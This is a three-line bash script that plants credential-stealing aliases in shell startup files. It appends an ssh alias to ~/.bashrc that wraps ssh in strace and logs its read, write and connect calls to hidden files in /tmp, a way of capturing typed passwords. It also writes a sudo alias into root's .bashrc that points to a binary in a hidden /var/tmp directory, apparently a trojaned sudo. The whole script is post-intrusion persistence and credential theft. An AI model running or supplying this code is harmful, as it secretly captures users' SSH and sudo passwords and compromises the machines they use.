#!/bin/bash
echo "alias ssh='strace -o /tmp/.sshlog-\$(date +%s).log -s 128 -e read,write,connect -fp ssh'" >> ~/.bashrc
echo "alias sudo='/var/tmp/.s/sudo'" >> /root/.bashrc
